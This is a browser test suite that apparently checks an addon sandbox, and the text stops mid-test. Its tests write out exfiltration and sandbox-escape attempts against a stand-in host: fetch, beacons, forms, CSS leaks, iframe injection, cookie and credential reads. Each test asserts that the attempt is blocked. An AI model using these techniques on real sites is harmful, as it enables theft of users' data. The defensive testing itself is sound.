import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type AddonSite, type SiteAnswers, startAddonSite } from '../server/src/testing/addon-site.ts';
import { type Targets, toAttack } from './addon-attack.ts';
import { buildStage, builtModules } from './addon-stage.ts';
import { launchBrowser } from './browser.ts';
import { type SilentListener, startSilentListener } from './silent-listener.ts';

/** A name that resolves to this machine, so that a look-up alone is found in the log of the network. */
const LEAK = 'leak.test';

let folder: string;
let netLog: string;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let site: AddonSite;
let listener: SilentListener;
let targets: Targets;
const dialogs: string[] = [];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'svc-attacks-'));
  spawnSync('chmod', ['755', folder]);
  netLog = join(folder, 'net-log.json');
  const stageDir = await buildStage(folder);
  listener = await startSilentListener();
  site = await startAddonSite({ modulesDir: builtModules, stageDir });
  browser = await launchBrowser([
    `--host-resolver-rules=MAP *.${LEAK} 127.0.0.1`,
    `--log-net-log=${netLog}`,
    '--net-log-capture-mode=Everything',
  ]);
  context = await browser.newContext({ baseURL: site.url, reducedMotion: 'reduce' });
  context.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page = await context.newPage();
  const other = site.put('export default () => () => {}; export const secret = "of another addon";');
  targets = {
    evil: `http://x.${LEAK}:${listener.port}`,
    stun: `stun:127.0.0.1:${listener.udpPort}`,
    app: site.url,
    site: site.frameOrigin,
    otherBundle: `${site.frameOrigin}/addon-bundles/${other.sha256}.js`,
  };
});

afterAll(async () => {
  await browser?.close();
  await site?.stop();
  await listener?.stop();
  rmSync(folder, { recursive: true, force: true });
});

beforeEach(() => {
  listener.heard.length = 0;
});

type Outcome = Record<string, string>;

/** Puts the attack on stage, waits until it has reported, and a moment more. */
async function attack(code: string, answers: SiteAnswers = {}, topLevel = ''): Promise<Outcome> {
  const { path } = site.put(toAttack(code, targets, topLevel), answers);
  await page.goto(path);
  const outcome = await readOutcome();
  await page.waitForTimeout(300);
  return outcome;
}

/** As `attack`, for what may leave no one behind who could report. */
async function attackLater(code: string): Promise<void> {
  await attack(`setTimeout(() => { ${code} }, 20);`);
}

async function readOutcome(): Promise<Outcome> {
  const read = `(window.stage?.logs ?? []).find(({ text }) => text.startsWith('OUTCOME '))?.text`;
  for (const end = Date.now() + 20_000; Date.now() < end; await page.waitForTimeout(25)) {
    const line = (await page.evaluate(read)) as string | undefined;
    if (line !== undefined) return JSON.parse(line.slice('OUTCOME '.length)) as Outcome;
  }
  throw new Error(`No outcome: ${JSON.stringify(await page.evaluate('window.stage'))} ${await page.innerText('body')}`);
}

/** Nothing got out, and the app is where it was. */
function expectSilence(): void {
  expect(listener.heard).toEqual([]);
  expect(new URL(page.url()).origin).toBe(site.url);
  expect(context.pages()).toHaveLength(1);
  expect(dialogs).toEqual([]);
}

function expectNothingDone(outcome: Outcome): void {
  const done = Object.entries(outcome).filter(([, how]) => !/^(refused|nothing|undefined|null|error|false)/.test(how));
  expect(done).toEqual([]);
}

describe('an addon fails to', () => {
  it('[ATTACK-1] speak to anybody by fetch, XHR, beacon or a socket', async () => {
    const outcome = await attack(`
      await attempt('fetch', () => fetch(evil));
      await attempt('fetch without CORS', () => fetch(evil, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }));
      await attempt('fetch of the API', () => fetch(app + '/api/v1/me', { credentials: 'include' }));
      await attempt('fetch of its own site', () => fetch(site + '/addon-modules/x'));
      await attempt('XHR', () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = () => reject(new Error('blocked'));
        request.open('POST', evil);
        request.send('secret');
      }));
      navigator.sendBeacon(evil + '/beacon', 'secret');
      for (const name of ['WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport']) {
        note(name, globalThis[name]);
        await attempt('define ' + name, () => { delete globalThis[name]; Object.defineProperty(globalThis, name, { value: 1 }); });
      }
      await attempt('fetchLater', () => fetchLater(evil, { activateAfter: 0 }).activated);
      await rest(300);
    `);
    expectSilence();
    expectNothingDone(outcome);
    expect(outcome).toMatchObject({ fetch: 'refused: TypeError', XHR: 'refused: Error', WebSocket: 'undefined' });
  });

  it('[ATTACK-2] load a picture, a sound, a film, a track, an icon or a manifest', async () => {
    const outcome = await attack(`
      const load = (name, tag, attributes, inner) => attempt(name, async () => {
        const made = make(tag, attributes);
        if (inner) inner(made);
        return (await Promise.race([happens(made, 'load', 'loadeddata', 'loadedmetadata'), happens(made, 'error').then(() => { throw new Error(); }), rest(400)]));
      });
      await Promise.all([
        load('img', 'img', { src: evil + '/img' }),
        load('img of the app', 'img', { src: app + '/favicon.svg' }),
        load('srcset', 'img', { srcset: evil + '/srcset 2x' }),
        load('source', 'picture', {}, (made) => { make('source', { srcset: evil + '/source' }, made); make('img', { src: evil + '/fallback' }, made); }),
        load('poster', 'video', { poster: evil + '/poster' }),
        load('video', 'video', { src: evil + '/video' }),
        load('audio', 'audio', { src: evil + '/audio', autoplay: '' }),
        load('track', 'video', {}, (made) => make('track', { src: evil + '/track', default: '' }, made)),
        load('icon', 'link', { rel: 'icon', href: evil + '/icon' }),
        load('manifest', 'link', { rel: 'manifest', href: evil + '/manifest' }),
        load('input', 'input', { type: 'image', src: evil + '/input' }),
        load('table', 'table', { background: evil + '/table' }),
        attempt('svg', async () => {
          const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
          for (const [tag, name] of [['image', 'href'], ['use', 'href'], ['feImage', 'href'], ['script', 'href']]) {
            const part = document.createElementNS('http://www.w3.org/2000/svg', tag);
            part.setAttribute(name, evil + '/svg#x');
            svg.append(part);
          }
          document.body.append(svg);
          return await rest(300);
        }),
        attempt('new Image', async () => { const image = new Image(); image.src = evil + '/new'; await image.decode(); }),
        attempt('ImageBitmap', async () => createImageBitmap(await (await fetch(evil)).blob())),
        attempt('MediaSource', async () => { const audio = new Audio(evil + '/sound'); await audio.play(); }),
      ]);
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-3] run a script that is not its own, or another addon’s', async () => {
    const outcome = await attack(`
      const script = (name, attributes, text) => attempt(name, async () => {
        const made = document.createElement('script');
        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
        if (text) made.textContent = text;
        const ended = Promise.race([happens(made, 'load'), happens(made, 'error').then(() => { throw new Error(); }), rest(400)]);
        document.head.append(made);
        return ended;
      });
      await script('script', { src: evil + '/script.js' });
      await script('module', { type: 'module', src: evil + '/module.js' });
      await script('bundle of another', { type: 'module', src: otherBundle });
      await attempt('import', () => import(evil + '/import.js'));
      await attempt('import of another', () => import(otherBundle));
      await attempt('import of the app', () => import(app + '/stage.js'));
      await attempt('import of data', () => import('data:text/javascript,export default 1'));
      await attempt('import of a blob', () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))));
      await attempt('modulepreload', async () => Promise.race([happens(make('link', { rel: 'modulepreload', href: evil + '/preload.js' }), 'load'), rest(300)]));
      await script('import map', { type: 'importmap' }, JSON.stringify({ imports: { react: evil + '/react.js', fresh: evil + '/fresh.js' } }));
      await attempt('a name of the second map', () => import('fresh'));
      note('react', typeof (await import('react')).useState === 'function' ? 'undefined but ours' : 'done');
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-4] fetch by styles, or tell a secret by which of them is fetched', async () => {
    const outcome = await attack(`
      make('link', { rel: 'stylesheet', href: evil + '/sheet.css' });
      make('input', { value: 'secret', class: 'probe' });
      const style = make('style');
      style.textContent = '@import url(' + evil + '/import.css);'
        + '@font-face { font-family: leak; src: url(' + evil + '/font.woff2); }'
        + 'body { font-family: leak; background: url(' + evil + '/background); cursor: url(' + evil + '/cursor), auto; list-style-image: url(' + evil + '/list); }'
        + 'input[value^="s"] { background-image: url(' + evil + '/starts-with-s); }'
        + '.probe { border-image: url(' + evil + '/border) 1; mask: url(' + evil + '/mask#a); filter: url(' + evil + '/filter#a); }'
        + 'body::after { content: url(' + evil + '/content) image-set("' + evil + '/set" 1x); }';
      element.textContent = 'text in the font';
      element.style.backgroundImage = 'url(' + evil + '/inline)';
      const sheet = new CSSStyleSheet();
      sheet.replaceSync('html { background: url(' + evil + '/adopted); }');
      document.adoptedStyleSheets = [sheet];
      await attempt('font', () => new FontFace('other', 'url(' + evil + '/face)').load());
      await rest(500);
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-5] reach out ahead of time: prefetch, preload, preconnect, DNS, speculation', async () => {
    const outcome = await attack(`
      const host = evil.replace('http://x', 'http://secret-5');
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'next', 'compression-dictionary']) make('link', { rel, href: host + '/' + rel }, document.head);
      for (const as of ['script', 'style', 'image', 'font', 'fetch', 'document', 'track']) make('link', { rel: 'preload', as, href: host + '/preload-' + as, crossorigin: '' }, document.head);
      await attempt('speculation rules', async () => {
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [host + '/speculation'] }], prerender: [{ source: 'list', urls: [host + '/prerender'] }] });
        document.head.append(rules);
        return await rest(300);
      });
      const anchor = make('a', { href: host + '/hover' });
      anchor.textContent = 'hover';
      anchor.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      await rest(700);
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-6] open a WebRTC connection, also from a child document', async () => {
    const child = `if (location.href.startsWith('about:')) {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify('STUN')} }] });
      connection.createDataChannel('leak');
      connection.setLocalDescription();
    }`;
    const outcome = await attack(
      `
      note('RTCPeerConnection', globalThis.RTCPeerConnection);
      note('webkitRTCPeerConnection', globalThis.webkitRTCPeerConnection);
      await attempt('define', () => Object.defineProperty(globalThis, 'RTCPeerConnection', { value: 1 }));
      const blank = make('iframe');
      await attempt('about:blank', () => new blank.contentWindow.RTCPeerConnection());
      await attempt('about:blank document', () => blank.contentDocument.body.append(blank.contentDocument.createElement('script')));
      const own = import.meta.url;
      const inner = '<script type="module" src="' + own + '"></scr' + 'ipt>';
      const html = '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>';
      await attempt('srcdoc', () => { const made = document.createElement('iframe'); made.srcdoc = inner; document.body.append(made); });
      await attempt('srcdoc attribute', () => make('iframe', { srcdoc: inner }));
      await attempt('srcdoc with a namespace', () => { const made = document.createElement('iframe'); made.setAttributeNS(null, 'srcdoc', inner); document.body.append(made); });
      await attempt('srcdoc node', () => { const made = document.createElement('iframe'); const node = document.createAttribute('srcdoc'); node.value = inner; made.setAttributeNode(node); document.body.append(made); });
      await attempt('srcdoc node, later', () => { const made = document.createElement('iframe'); const node = document.createAttribute('srcdoc'); made.setAttributeNode(node); node.value = inner; document.body.append(made); });
      await attempt('srcdoc named item', () => { const made = document.createElement('iframe'); const node = document.createAttribute('srcdoc'); node.value = inner; made.attributes.setNamedItem(node); document.body.append(made); });
      await attempt('innerHTML', () => { element.innerHTML = html; });
      await attempt('outerHTML', () => { const made = make('div'); made.outerHTML = html; });
      await attempt('insertAdjacentHTML', () => element.insertAdjacentHTML('beforeend', html));
      await attempt('setHTMLUnsafe', () => element.setHTMLUnsafe(html));
      await attempt('fragment', () => element.append(document.createRange().createContextualFragment(html)));
      await attempt('parser', () => element.append(document.importNode(new DOMParser().parseFromString(html, 'text/html').body.firstChild, true)));
      await attempt('parser of XML', () => element.append(document.importNode(new DOMParser().parseFromString('<x xmlns="http://www.w3.org/1999/xhtml">' + html + '</x>', 'application/xhtml+xml').documentElement, true)));
      await attempt('template', () => { const made = document.createElement('template'); made.innerHTML = html; element.append(made.content); });
      await attempt('another document', () => { const other = document.implementation.createHTMLDocument(''); other.body.innerHTML = html; element.append(other.body.firstChild); });
      await attempt('another document, written', () => { const other = document.implementation.createHTMLDocument(''); other.write(html); element.append(other.body.firstChild); });
      const xml = inner.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
      const fromXml = (text) => element.append(document.importNode(new DOMParser().parseFromString(text, 'application/xml').documentElement, true));
      await attempt('XML with a prefix', () => fromXml('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + xml + '"/>'));
      await attempt('XML with an entity', () => fromXml('<!DOCTYPE x [<!ENTITY e "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\' srcdoc=\\'x\\'/>">]><x>&e;</x>'));
      await attempt('a command', () => { element.contentEditable = true; element.focus(); return document.execCommand('insertHTML', false, html); });
      await attempt('parseHTMLUnsafe', () => element.append(document.importNode(Document.parseHTMLUnsafe(html).body.firstChild, true)));
      await attempt('setHTML', () => { element.setHTML(html, { sanitizer: { elements: ['iframe'], attributes: ['srcdoc'] } }); return element.children.length === 0 ? 'nothing' : 'made'; });
      await attempt('XSLT', () => {
        const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><xsl:element name="{concat(\\'ifr\\', \\'ame\\')}"><xsl:attribute name="srcdoc">' + inner.replaceAll('<', '&lt;') + '</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>', 'application/xml');
        const processor = new XSLTProcessor();
        processor.importStylesheet(sheet);
        element.append(processor.transformToFragment(document.implementation.createDocument(null, 'x'), document));
      });
      await rest(1500);
      const kinds = [...document.querySelectorAll('iframe')].map((one) => one.getAttribute('srcdoc') === null ? 'blank' : 'srcdoc');
      note('children', kinds.every((kind) => kind === 'blank') ? 'null' : 'done: ' + kinds);
    `,
      {},
      child.replace('STUN', targets.stun),
    );
    expectSilence();
    expectNothingDone(outcome);
  });

  describe('[ATTACK-7] take itself to another page', () => {
    const ways: [string, string][] = [
      ['location', `location = evil + '/self';`],
      ['location.replace', `location.replace(evil + '/self');`],
      ['an anchor', `const a = make('a', { href: evil + '/self' }); a.click();`],
      ['an anchor to itself', `const a = make('a', { href: evil + '/self', target: '_self' }); a.click();`],
      ['window.open', `window.open(evil + '/self', '_self');`],
      ['the navigation API', `navigation.navigate(evil + '/self');`],
      ['a refresh', `make('meta', { 'http-equiv': 'refresh', content: '0; url=' + evil + '/self' }, document.head);`],
      [
        'a form',
        `const form = make('form', { action: evil + '/self', method: 'get' }); make('input', { name: 'secret', value: '1' }, form); form.submit();`,
      ],
      [
        'a blob',
        `location = URL.createObjectURL(new Blob(['<script src="' + evil + '/blob.js"></script><img src="' + evil + '/blob">'], { type: 'text/html' }));`,
      ],
      ['data', `location = 'data:text/html,<img src="' + evil + '/data">';`],
      ['javascript', `location = 'javascript:"<img src=' + evil + '/javascript>"';`],
      ['about:blank', `location = 'about:blank#' + evil;`],
      ['the app', `location = app + '/stage?secret';`],
    ];
    it.each(ways)('by %s', async (_name, code) => {
      await attackLater(code);
      expectSilence();
      const addresses = page.frames().map((frame) => frame.url());
      expect(addresses.filter((address) => address.includes(LEAK) || address.startsWith('data:text'))).toEqual([]);
    });

    it('or its neighbour', async () => {
      const neighbour = site.put(
        `export default (element) => { element.textContent = 'neighbour'; return () => {}; };`,
      );
      const { path } = site.put(
        toAttack(
          `
          note('neighbours', parent.frames.length === 2 ? 'null' : 'error: ' + parent.frames.length);
          for (let index = 0; index < parent.frames.length; index += 1) {
            const other = parent.frames[index];
            if (other === window) continue;
            await attempt('location', () => { other.location = evil + '/sibling'; });
            await attempt('replace', () => other.location.replace(evil + '/sibling'));
            await attempt('document', () => other.document.body);
            await attempt('open', () => window.open(evil + '/sibling', other.name || 'x') === null ? 'nothing' : 'opened');
          }
          await rest(500);
        `,
          targets,
        ),
      );
      await page.goto(`${path}&instance=${neighbour.path.split('=')[1]}`);
      const outcome = await readOutcome();
      expectSilence();
      expectNothingDone(outcome);
      expect(await page.frameLocator('iframe').nth(1).locator('#addon').textContent()).toBe('neighbour');
    });
  });

  describe('[ATTACK-8] send a form, open a window, ping or download', () => {
    const form = `const form = make('form', { action: evil + '/form', method: 'post', target: '_blank' }); make('input', { name: 'secret', value: '1' }, form);`;
    const ways: [string, string][] = [
      ['a form', `${form} form.submit();`],
      ['a form with its checks', `${form} form.requestSubmit();`],
      ['a popup', `note('popup', window.open(evil + '/popup'));`],
      ['an anchor to a new window', `make('a', { href: evil + '/anchor', target: '_blank' }).click();`],
      ['an anchor to a name', `make('a', { href: evil + '/anchor', target: 'other' }).click();`],
      ['an anchor to the app', `make('a', { href: evil + '/anchor', target: '_top' }).click();`],
      ['a ping', `make('a', { href: '#here', ping: evil + '/ping' }).click();`],
      ['a download', `make('a', { href: evil + '/download', download: 'x' }).click();`],
      ['a download of data', `make('a', { href: 'data:text/plain,secret', download: 'x.txt' }).click();`],
      [
        'a download of a blob',
        `make('a', { href: URL.createObjectURL(new Blob(['secret'])), download: 'x.txt' }).click();`,
      ],
    ];
    it.each(ways)('by %s', async (_name, code) => {
      const downloads: string[] = [];
      const keep = (download: { url(): string }): unknown => downloads.push(download.url());
      page.on('download', keep);
      await attackLater(code);
      page.off('download', keep);
      expectSilence();
      expect(downloads).toEqual([]);
    });
  });

  it('[ATTACK-9] put a page into itself', async () => {
    const outcome = await attack(`
      const put = (tag, attributes) => attempt(tag + ' ' + Object.values(attributes)[0].slice(0, 20), async () => { make(tag, attributes); return 'nothing'; });
      await put('iframe', { src: evil + '/frame' });
      await put('iframe', { src: app + '/stage' });
      await put('iframe', { src: location.href });
      await put('iframe', { src: 'data:text/html,<img src=' + evil + '/data>' });
      await put('iframe', { src: 'javascript:parent.document.title = 1' });
      await put('iframe', { src: URL.createObjectURL(new Blob(['<img src=' + evil + '/blob>'], { type: 'text/html' })) });
      await put('object', { data: evil + '/object', type: 'text/html' });
      await put('object', { data: evil + '/object' });
      await put('embed', { src: evil + '/embed', type: 'text/html' });
      await put('fencedframe', { src: evil + '/fenced' });
      await put('frame', { src: evil + '/old' });
      await rest(800);
    `);
    expectSilence();
    expectNothingDone(outcome);
    const addresses = page.frames().map((frame) => frame.url());
    expect(addresses.filter((address) => address.includes(LEAK))).toEqual([]);
  });

  it('[ATTACK-10] take the app to another page, also after a click', async () => {
    const code = `
      const go = async (name) => {
        await attempt(name + ' top', () => { top.location = evil + '/top'; });
        await attempt(name + ' top.replace', () => top.location.replace(evil + '/top'));
        await attempt(name + ' parent', () => { parent.location.href = evil + '/parent'; });
        await attempt(name + ' open', () => String(window.open(evil + '/top', '_top')) === 'null' ? 'nothing' : 'opened');
        await attempt(name + ' anchor', async () => { make('a', { href: evil + '/top', target: '_top' }).click(); return await rest(100); });
        await attempt(name + ' popup', () => String(window.open(evil + '/popup')) === 'null' ? 'nothing' : 'opened');
      };
      await go('at once');
      const button = make('button', {}, element);
      button.textContent = 'Press';
      const pressed = happens(button, 'click');
      console.info('WAITING');
      await pressed;
      await go('after a click');
    `;
    const { path } = site.put(toAttack(code, targets));
    await page.goto(path);
    await page.frameLocator('iframe').getByRole('button', { name: 'Press' }).click();
    const outcome = await readOutcome();
    await page.waitForTimeout(300);
    expectSilence();
    // What stays silent at the call is refused behind it: the app is still there.
    expect(Object.values(outcome).filter((how) => how.includes('opened'))).toEqual([]);
  });

  it('[ATTACK-11] look into the app', async () => {
    const outcome = await attack(`
      await attempt('parent', () => parent.document.title);
      await attempt('top', () => top.document.cookie);
      await attempt('storage', () => parent.localStorage.length);
      await attempt('a name', () => parent.stage);
      await attempt('address', () => parent.location.href);
      note('frameElement', window.frameElement);
      await attempt('javascript', async () => { parent.location = 'javascript:document.title = "owned"'; return await rest(200); });
      await attempt('javascript by an anchor', async () => { make('a', { href: 'javascript:document.title = "owned"', target: '_parent' }).click(); return await rest(200); });
      note('referrer', document.referrer === '' ? 'null' : document.referrer);
      note('ancestor', location.ancestorOrigins?.length > 1 ? 'done' : 'null');
    `);
    expectSilence();
    expectNothingDone(outcome);
    expect(await page.title()).not.toBe('owned');
  });

  it('[ATTACK-12] keep anything: cookies, storage, databases, caches, service workers', async () => {
    const outcome = await attack(`
      note('origin', self.origin === 'null' ? 'null' : self.origin);
      await attempt('cookie', () => { document.cookie = 'a=b'; return document.cookie; });
      await attempt('cookieStore', () => cookieStore.set('a', 'b'));
      await attempt('localStorage', () => localStorage.setItem('a', 'b'));
      await attempt('sessionStorage', () => sessionStorage.setItem('a', 'b'));
      await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('a'); open.onsuccess = resolve; open.onerror = () => reject(open.error); }));
      await attempt('caches', () => caches.open('a'));
      await attempt('service worker', () => navigator.serviceWorker.register('/addon-modules/sw.js'));
      await attempt('files', () => navigator.storage.getDirectory());
      await attempt('locks', () => navigator.locks.request('a', () => 'held'));
      await attempt('storage access', () => document.requestStorageAccess());
      await attempt('window.name', async () => { return await rest(1); });
    `);
    expectSilence();
    expectNothingDone(outcome);
    expect((await context.cookies()).length).toBe(0);
  });

  it('[ATTACK-13] start a worker or broadcast', async () => {
    const outcome = await attack(`
      const blob = URL.createObjectURL(new Blob(['fetch("' + evil + '/worker")'], { type: 'text/javascript' }));
      await attempt('Worker', () => new Worker(blob));
      await attempt('SharedWorker', () => new SharedWorker(blob));
      await attempt('BroadcastChannel', () => new BroadcastChannel('svc-addon-state'));
      await attempt('audio worklet', () => new AudioContext().audioWorklet.addModule(blob));
      await attempt('paint worklet', () => CSS.paintWorklet.addModule(blob));
      await attempt('shared storage', () => sharedStorage.worklet.addModule(blob));
      await rest(300);
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-14] make code out of text', async () => {
    const outcome = await attack(`
      globalThis.ran = [];
      await attempt('eval', () => eval('1 + 1'));
      await attempt('indirect eval', () => (0, eval)('1 + 1'));
      await attempt('Function', () => new Function('return 1')());
      await attempt('constructor', () => (() => {}).constructor('return 1')());
      await attempt('async constructor', () => (async () => {}).constructor('return 1')());
      await attempt('setTimeout', async () => { setTimeout('ran.push("timer")', 1); return await rest(50); });
      await attempt('script', async () => { const made = document.createElement('script'); made.textContent = 'ran.push("script")'; document.head.append(made); return await rest(50); });
      await attempt('handler', async () => { const made = make('b'); made.setAttribute('onclick', 'ran.push("handler")'); made.click(); return await rest(50); });
      await attempt('handler in markup', async () => { element.innerHTML = '<img src="x" onerror="ran.push(1)">'; return await rest(150); });
      await attempt('javascript', async () => { make('a', { href: 'javascript:ran.push("href")' }).click(); return await rest(100); });
      await attempt('blob', async () => { const made = document.createElement('script'); made.src = URL.createObjectURL(new Blob(['ran.push("blob")'], { type: 'text/javascript' })); document.head.append(made); return await rest(200); });
      await attempt('wasm', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
      await attempt('wasm module', () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
      await attempt('animation handler', async () => { element.innerHTML = '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="ran.push(2)">x</b>'; return await rest(150); });
      note('ran', ran.length === 0 ? 'null' : 'done: ' + ran);
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-15] change its base, write its document, or widen its domain', async () => {
    const outcome = await attack(`
      const before = document.baseURI;
      make('base', { href: evil + '/' }, document.head);
      note('base', document.baseURI === before ? 'null' : 'done: ' + document.baseURI);
      await attempt('write', () => document.write('<img src="' + evil + '/write">'));
      await attempt('writeln', () => document.writeln('<b>x</b>'));
      await attempt('open', () => { const opened = document.open('/addon-frames/x', 'y', ''); return opened === null ? 'nothing' : 'opened'; });
      await attempt('domain', () => { document.domain = 'localhost'; });
      await attempt('policy', () => trustedTypes.createPolicy('default', { createHTML: (text) => text }));
      await attempt('other policy', () => trustedTypes.createPolicy('other', { createHTML: (text) => text }));
    `);
    expectSilence();
    expectNothingDone(outcome);
  });

  it('[ATTACK-16] bother the person or use the machine, also after a click', async () => {
    const code = `
      const all = async (when) => {
        await attempt(when + ' alert', async () => { alert('owned'); return 'nothing'; });
        await attempt(when + ' confirm', async () => confirm('owned') ? 'yes' : 'nothing');
        await attempt(when + ' prompt', async () => prompt('owned') === null ? 'nothing' : 'typed');
        await attempt(when + ' print', async () => { print(); return 'nothing'; });
        await attempt(when + ' fullscreen', () => element.requestFullscreen());
        await attempt(when + ' pointer lock', () => element.requestPointerLock());
        await attempt(when + ' clipboard read', () => navigator.clipboard.readText());
        await attempt(when + ' clipboard write', () => navigator.clipboard.writeText('owned'));
        await attempt(when + ' geolocation', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));
        await attempt(when + ' camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
        await attempt(when + ' screen', () => navigator.mediaDevices.getDisplayMedia({ video: true }));
        await attempt(when + ' credentials', () => navigator.credentials.get({ password: true }).then((found) => found ?? 'nothing'));
        await attempt(when + ' passkey', () => navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { name: 'x' }, user: { id: new Uint8Array(16), name: 'x', displayName: 'x' }, pubKeyCredParams: [] } }));
        await attempt(when + ' payment', () => new PaymentRequest([{ supportedMethods: evil + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show());
        await attempt(when + ' notification', async () => (await Notification.requestPermission()) === 'granted' ? 'granted' : 'nothing');
        for (const name of ['usb', 'serial', 'hid', 'bluetooth']) await attempt(when + ' ' + name, () => navigator[name].requestDevice ? navigator[name].requestDevice({ filters: [], acceptAllDevices: true }) : navigator[name].requestPort());
        await attempt(when + ' midi', () => navigator.requestMIDIAccess());
        await attempt(when + ' wake lock', () => navigator.wakeLock.request());
        await attempt(when + ' picker', () => showOpenFilePicker());
        await attempt(when + ' share', () => navigator.share({ text: 'x' }));
        await attempt(when + ' fonts', () => queryLocalFonts());
        await attempt(when + ' eye dropper', () => new EyeDropper().open());
        await attempt(when + ' idle', () => IdleDetector.requestPermission().then((answer) => answer === 'granted' ? answer : 'nothing'));
        await attempt(when + ' picture in picture', () => documentPictureInPicture.requestWindow());
      };
      await all('at once');
      const button = make('button', {}, element);
      button.textContent = 'Press';
      await happens(button, 'click');
      await all('after a click');
    `;
    const { path } = site.put(toAttack(code, targets));
    await page.goto(path);
    await page.frameLocator('iframe').getByRole('button', { name: 'Press' }).click();
    const outcome = await readOutcome();
    expectSilence();
    expectNothingDone(outcome);
  });

  describe('[ATTACK-17] take the app down with it', () => {
    /** An app that an addon holds up does not answer at all; a busy machine may take its time. */
    const FROZEN_MS = 8000;

    /** How long the app takes to answer at all, in the worst of many tries. */
    async function worstAnswerMs(of: Page, forMs: number): Promise<number> {
      let worst = 0;
      for (const until = Date.now() + forMs; Date.now() < until; ) {
        const began = Date.now();
        await of.evaluate('1 + 1');
        worst = Math.max(worst, Date.now() - began);
        await of.waitForTimeout(20);
      }
      return worst;
    }

    it('by an endless loop: the app answers, and offers to stop it', async () => {
      const { path } = site.put(
        `export default (element) => { element.textContent = 'here'; setTimeout(() => { for (;;); }, 700); return () => {}; };`,
      );
      // In a browser of its own: Chromium may put the next frame into the process that loops, for as long as that lives.
      const own = await launchBrowser();
      const lone = await own.newPage({ baseURL: site.url, reducedMotion: 'reduce' });
      await lone.goto(path);
      await lone.frameLocator('iframe').getByText('here').waitFor();
      await lone.waitForTimeout(1200);
      expect(await worstAnswerMs(lone, 1000)).toBeLessThan(FROZEN_MS);
      await lone.getByText('Guest does not answer.').waitFor({ timeout: 20_000 });
      await lone.getByRole('button', { name: 'Stop' }).click();
      await lone.getByText('Guest was stopped').waitFor();
      expect(await lone.locator('iframe').count()).toBe(0);
      expect(await worstAnswerMs(lone, 300)).toBeLessThan(FROZEN_MS);
      await lone.getByRole('button', { name: 'Start again' }).waitFor();
      await own.close();
    });

    it('by eating memory', async () => {
      await attack(`
        const eaten = [];
        for (let index = 0; index < 40; index += 1) { eaten.push(new Array(1e6).fill(index)); await rest(1); }
        note('eaten', 'null');
      `);
      expect(await worstAnswerMs(page, 300)).toBeLessThan(FROZEN_MS);
    });

    it('by loading itself again and again', async () => {
      const { path } = site.put(`export default () => { location.reload(); return () => {}; };`);
      let frames = 0;
      const count = (request: { url(): string }): void => {
        if (request.url().includes('/addon-frames/')) frames += 1;
      };
      page.on('request', count);
      await page.goto(path);
      await page.getByText('tried to go to another page').waitFor();
      await page.waitForTimeout(500);
      page.off('request', count);
      expect(frames).toBeLessThan(5);
      expect(await page.locator('iframe').count()).toBe(0);
    });

    it('by a flood of elements', async () => {
      await attack(`
        for (let round = 0; round < 20; round += 1) {
          const part = document.createDocumentFragment();
          for (let index = 0; index < 5000; index += 1) { const made = document.createElement('p'); made.textContent = index; part.append(made); }
          element.append(part);
          await rest(1);
        }
        note('flood', 'null');
      `);
      expect(await worstAnswerMs(page, 300)).toBeLessThan(FROZEN_MS);
      const heights = (await page.evaluate('window.stage.heights')) as number[];
      expect(Math.max(...heights)).toBe(4000);
    });
  });

  it('[ATTACK-18] [CHANNEL-1] shake hands twice, speak for another frame, or guess a port', async () => {
    const neighbour = site.put(`export default (element) => { element.textContent = 'neighbour'; return () => {}; };`);
    const { path } = site.put(
      toAttack(
        `
        const received = [];
        window.addEventListener('message', ({ data, ports }) => received.push(data + ' ' + ports.length));
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => received.push('port ' + data);
        for (let index = 0; index < 20; index += 1) parent.postMessage('svc-addon-ready', '*');
        parent.postMessage('svc-addon-port', '*', [port2]);
        parent.postMessage('call {"id":1,"method":"data.tables.list","arguments":[]}', '*');
        for (let index = 0; index < parent.frames.length; index += 1) {
